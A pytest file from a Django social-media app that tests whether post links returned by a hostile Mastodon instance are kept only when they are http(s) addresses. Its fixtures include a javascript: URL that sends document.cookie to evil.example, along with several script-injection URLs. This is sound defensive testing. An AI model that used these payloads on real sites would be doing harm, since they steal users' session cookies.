"""Links to published posts are stored only when they are web addresses (issue 19, security item 8): a
hostile Mastodon instance answering `"url": "javascript:..."` must not become `<a href="javascript:...">`
on the post page or a link in the API. The stand-in instance answers POST /api/v1/statuses with a
status shaped like Mastodon's (docs.joinmastodon.org/entities/Status/) but for its `url`."""

import pytest

from social_media.models import PublishAttempt, Status
from social_media.services.links import DROPPED_NOTE, post_link
from social_media.services.publishing import target_publish
from tests.engine.conftest import due_target
from tests.factories import ConnectedAccountFactory
from tests.platforms.ssrf_servers import Recorder

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE_URL = "javascript:fetch('//evil.example/?'+document.cookie)"


def hostile_status(url):
    def answer(request):
        if (request.command, request.path) != ("POST", "/api/v1/statuses"):
            return 404, {}, {"error": "Record not found"}
        return 200, {}, {
            "id": "110000000000000001", "uri": "https://evil.example/users/alice/statuses/110000000000000001",
            "url": url, "created_at": "2026-12-06T18:00:00.000Z", "content": "<p>Hello</p>", "visibility": "public",
            "account": {"id": "1", "username": "alice", "acct": "alice"}, "media_attachments": [],
            "favourites_count": 0, "reblogs_count": 0, "replies_count": 0,
        }
    return answer


@pytest.fixture
def instance():
    server = Recorder()
    yield server
    server.stop()


def publish_to(instance, workspace, url):
    instance.answer = hostile_status(url)
    account = ConnectedAccountFactory(workspace=workspace, platform="mastodon", platform_user_id="1",
                                      platform_username="alice", access_token="token", instance_url=instance.base_url)
    target = due_target(account, "Hello")
    assert target_publish(target_id=target.id).status == Status.POSTED
    assert instance.requests == [("POST", "/api/v1/statuses")]
    target.refresh_from_db()
    return target


@pytest.mark.parametrize("url", [HOSTILE_URL, "JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                 " javascript:alert(1)", "//evil.example/x", "https://" + "a" * 600 + ".example/"])
def test_a_link_that_is_not_a_web_address_is_dropped_with_a_note(instance, workspace, url, auth_api, client, user):
    target = publish_to(instance, workspace, url)
    assert (target.status, target.platform_post_url, target.error_message) == (Status.POSTED, "", DROPPED_NOTE)
    assert PublishAttempt.objects.get(target=target).message == DROPPED_NOTE
    [body] = auth_api.get(f"/api/v1/posts/{target.post_id}/").json()["targets"]
    assert (body["platform_post_url"], body["error_message"]) == ("", DROPPED_NOTE)
    client.force_login(user)
    page = client.get(f"/posts/{target.post_id}/").content.decode()
    assert "javascript:" not in page.lower() and "data:text/html" not in page and "evil.example" not in page
    assert "was not a web address" in page


def test_a_web_address_is_stored_as_given(instance, workspace, auth_api):
    target = publish_to(instance, workspace, "https://mastodon.example/@alice/110000000000000001")
    assert (target.platform_post_url, target.error_message) == ("https://mastodon.example/@alice/110000000000000001", "")
    [body] = auth_api.get(f"/api/v1/posts/{target.post_id}/").json()["targets"]
    assert body["platform_post_url"] == "https://mastodon.example/@alice/110000000000000001"


def test_post_link_keeps_only_absolute_http_urls():
    assert post_link("https://bsky.app/profile/a.test/post/3k") == ("https://bsky.app/profile/a.test/post/3k", "")
    assert post_link("http://127.0.0.1:3000/@a/1") == ("http://127.0.0.1:3000/@a/1", "")
    assert post_link("") == post_link(None) == ("", "")
    for bad in ("javascript:alert(1)", "vbscript:x", "ftp://x.example/", "/relative", "https://", 42):
        assert post_link(bad) == ("", DROPPED_NOTE), bad


def test_the_migration_drops_links_stored_before_the_check(workspace):
    """0010_drop_unsafe_post_links clears what an earlier release stored as given."""
    from importlib import import_module

    from django.apps import apps

    from tests.factories import PostTargetFactory

    bad = PostTargetFactory(post__workspace=workspace, status=Status.POSTED, platform_post_url=HOSTILE_URL)
    good = PostTargetFactory(post__workspace=workspace, status=Status.POSTED,
                             platform_post_url="https://mastodon.example/@a/1")
    import_module("social_media.migrations.0010_drop_unsafe_post_links").drop_unsafe_links(apps, None)
    bad.refresh_from_db()
    good.refresh_from_db()
    assert (bad.platform_post_url, bad.error_message) == ("", DROPPED_NOTE)
    assert (good.platform_post_url, good.error_message) == ("https://mastodon.example/@a/1", "")
